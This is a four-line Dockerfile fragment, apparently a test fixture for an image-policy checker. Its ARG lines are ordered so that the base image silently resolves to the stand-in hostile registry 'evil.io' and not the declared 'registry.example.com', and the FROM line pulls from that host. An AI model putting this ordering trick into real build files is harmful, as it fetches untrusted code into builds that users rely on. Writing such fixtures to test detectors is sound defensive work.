ARG A=${B:-evil.io}
ARG B=registry.example.com
FROM $A/x@sha256:e14e87345b4d5964ddcc3491d27ee046a0f23820f340c3c1e24da6880141f7c0
USER 10001
